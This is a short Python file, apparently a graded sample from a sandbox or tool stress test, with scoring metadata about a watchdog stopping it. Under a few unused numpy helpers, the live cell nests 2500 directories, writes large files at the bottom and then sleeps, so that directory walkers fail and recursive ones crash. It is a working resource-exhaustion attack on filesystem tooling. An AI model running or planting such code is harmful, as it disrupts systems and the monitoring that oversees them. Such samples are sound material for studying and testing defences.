"""Makes folders so deep that their paths are too long to be named, and fills the disk at the
bottom: a walk by path stops on the way, and one that recurses crashes.

score: 8 of 8
flags: too deep
reason: to be counted
stopped by: the watchdog
"""

# %%
import os
import time

import numpy as np


def square(x):
    return np.asarray(x, dtype=float) ** 2


def total(values):
    return float(np.sum(values))


def apply(f, x):
    return f(x)


def scale(values, factor):
    return values * factor


# %%
for _ in range(2500):
    os.mkdir("d")
    os.chdir("d")
for number in range(20):
    with open(f"file{number}", "wb") as file:
        file.write(bytes(3 << 20))
time.sleep(60)
